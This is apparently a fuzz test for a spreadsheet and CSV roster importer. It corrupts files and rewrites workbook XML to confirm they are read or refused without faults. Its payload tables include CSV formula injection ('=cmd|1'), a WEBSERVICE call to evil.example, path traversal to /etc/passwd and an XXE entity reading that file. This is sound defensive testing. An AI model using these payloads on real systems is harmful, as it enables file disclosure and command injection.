import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { readRosterFile } from '../../../electron/admissions/roster-file.ts';
import { kk } from '../../../renderer/i18n/kk.ts';
import { HEADINGS, MAN, menOf, xlsxOf } from './made-lists.ts';

/** `SARBAZ_FUZZ=2000 npm test -- mutated` tries more. */
const FILES = Number(process.env.SARBAZ_FUZZ ?? 100);
const SLOWEST_MS = 5000;

const MEN = Array.from({ length: 12 }, (_, index) => [`${MAN[0]} ${index}`, ...MAN.slice(1)]);
const CSV = Buffer.from(`\ufeff${[HEADINGS, ...MEN].map((row) => row.join(';')).join('\r\n')}\r\n`);

type Mutation = { at: number; how: 'flip' | 'cut' | 'drop' | 'repeat' | 'put'; length: number; bytes: Uint8Array };

const mutations = fc.array(
  fc.record({
    at: fc.double({ min: 0, max: 1, noNaN: true }),
    how: fc.constantFrom<Mutation['how']>('flip', 'flip', 'cut', 'drop', 'repeat', 'put'),
    length: fc.integer({ min: 1, max: 64 }),
    bytes: fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 16 }),
      fc.constantFrom(
        ...['"', ';;;;', '\r\n', '\u0000', '=cmd|1', '9'.repeat(40), '\ud800', '«'].map((text) => strToU8(text)),
      ),
    ),
  }),
  { minLength: 1, maxLength: 4 },
);

function mutated(bytes: Uint8Array, changes: readonly Mutation[]): Uint8Array {
  return changes.reduce((now, { at, how, length, bytes: put }) => {
    const place = Math.floor(at * now.length);
    const [before, after] = [now.subarray(0, place), now.subarray(place)];
    if (how === 'cut') return before;
    if (how === 'drop') return Buffer.concat([before, after.subarray(length)]);
    if (how === 'repeat') return Buffer.concat([before, after.subarray(0, length), after]);
    if (how === 'put') return Buffer.concat([before, put, after]);
    return Buffer.concat([before, after.subarray(0, 1).map((byte) => byte ^ (1 << (length % 8))), after.subarray(1)]);
  }, bytes);
}

/** Words of a workbook's parts, each put in another's place: what no byte by chance becomes. */
const XML_WORDS: readonly (readonly [RegExp, string])[] = [
  [/r="[A-Z]+\d+"/, 'r="ZZZZ99999999"'],
  [/r="[A-Z]+\d+"/, 'r="A0"'],
  [/r="[A-Z]+\d+"/, 'r=""'],
  [/<row r="\d+"/, '<row r="1048577"'],
  [/<row r="\d+"/, '<row r="-1"'],
  [/t="s"/, 't="d"'],
  [/t="s"/, 't="e"'],
  [/t="s"/, 't="nothing"'],
  [/<v>\d+<\/v>/, '<v>99999999</v>'],
  [/<v>\d+<\/v>/, '<v>-1</v>'],
  [/<v>\d+<\/v>/, '<v>1e400</v>'],
  [/<v>\d+<\/v>/, '<f>WEBSERVICE("http://evil.example")</f>'],
  [/<v>\d+<\/v>/, '<v/>'],
  [/s="\d+"/, 's="77777"'],
  [/<sheetData>/, '<sheetData><sheetData>'],
  [/<\/sheetData>/, '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'],
  [/<\/sheetData>/, '</sheetData><mergeCells><mergeCell ref="B2:A1"/></mergeCells>'],
  [/<sheet /, '<sheet r:id="rId999" '],
  [/name="[^"]*"/, 'name=""'],
  [/Target="[^"]*"/, 'Target="../../../etc/passwd"'],
  [/Target="[^"]*"/, 'Target="http://evil.example/x.xml"'],
  [/<\?xml[^>]*\?>/, '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c "&b;&b;">]>'],
  [/<t>/, '<t>&c;&c;&#0;'],
  [/<t[ >]/, '<r><t xml:space="preserve">x</t></r><t>'],
  [/>/, '><![CDATA['],
];

const xmlChanges = fc.array(
  fc.record({
    part: fc.nat(),
    word: fc.nat({ max: XML_WORDS.length - 1 }),
    how: fc.constantFrom('word', 'word', 'word', 'word', 'bytes', 'gone', 'empty', 'twice'),
    changes: mutations,
  }),
  { minLength: 1, maxLength: 3 },
);

type XmlChange = { part: number; word: number; how: string; changes: Mutation[] };

function rezipped(book: Uint8Array, wishes: readonly XmlChange[]): Uint8Array {
  const parts: Record<string, Uint8Array> = unzipSync(book);
  for (const { part, word, how, changes } of wishes) {
    const [wanted, instead] = XML_WORDS[word] as (typeof XML_WORDS)[number];
    const names = Object.keys(parts).filter((name) => how !== 'word' || wanted.test(strFromU8(parts[name]!)));
    const name = names[part % names.length];
    if (name === undefined) continue;
    const bytes = parts[name] as Uint8Array;
    if (how === 'gone') delete parts[name];
    else if (how === 'empty') parts[name] = new Uint8Array(0);
    else if (how === 'twice') parts[name] = Buffer.concat([bytes, bytes]);
    else if (how === 'bytes') parts[name] = mutated(bytes, changes);
    else parts[name] = strToU8(strFromU8(bytes).replace(new RegExp(wanted, part % 2 ? 'g' : ''), () => instead));
  }
  return zipSync(parts, { level: 1 });
}

const refusals: Record<string, unknown> = kk.admissions.refusal;

/** Reads every file to the end, rules included; says how many were read and how many refused. */
async function readAll(fileName: string, files: readonly Uint8Array[]) {
  const count = { read: 0, refused: 0 };
  for (const bytes of files) {
    const before = process.cpuUsage();
    const file = await readRosterFile(fileName, bytes);
    if (file.ok) for (const { rows } of file.value.sheets) menOf(rows);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000, 'milliseconds computed for one file').toBeLessThan(SLOWEST_MS);
    if (file.ok) count.read += 1;
    else {
      expect(file.kind).toBe('refusal');
      expect(Object.keys(refusals), file.code).toContain(file.code.replace('admissions.', ''));
      count.refused += 1;
    }
  }
  return count;
}

const samples = <T>(arbitrary: fc.Arbitrary<T>, seed: number): T[] => fc.sample(arbitrary, { numRuns: FILES, seed });

test('a csv with bytes changed, cut and put in is read or refused, never a fault', async () => {
  const files = samples(mutations, 1).map((changes) => mutated(CSV, changes));
  const { read, refused } = await readAll('тізім.csv', files);
  expect(read).toBeGreaterThan(FILES / 4);
  expect(read + refused).toBe(FILES);
});

test('an xlsx with bytes changed is read or refused, never a fault', async () => {
  const whole = await xlsxOf([HEADINGS, ...MEN]);
  const { refused } = await readAll(
    'тізім.xlsx',
    samples(mutations, 2).map((changes) => mutated(whole, changes)),
  );
  expect(refused).toBeGreaterThan(FILES / 4);
});

test('an xlsx whose parts say what no spreadsheet says is read or refused, never a fault', async () => {
  const whole = await xlsxOf([HEADINGS, ...MEN]);
  const { read, refused } = await readAll(
    'тізім.xlsx',
    samples(xmlChanges, 3).map((wishes) => rezipped(whole, wishes)),
  );
  expect(read).toBeGreaterThan(FILES / 20);
  expect(refused).toBeGreaterThan(FILES / 20);
});

test('the clerk’s own list with bytes changed is read or refused, never a fault', async () => {
  const whole = readFileSync('test/fixtures/roster-2027-01.xlsx');
  const files = samples(mutations, 4).slice(0, FILES / 5);
  const { read, refused } = await readAll(
    'roster.xlsx',
    files.map((changes) => mutated(whole, changes)),
  );
  expect(read + refused).toBe(files.length);
});
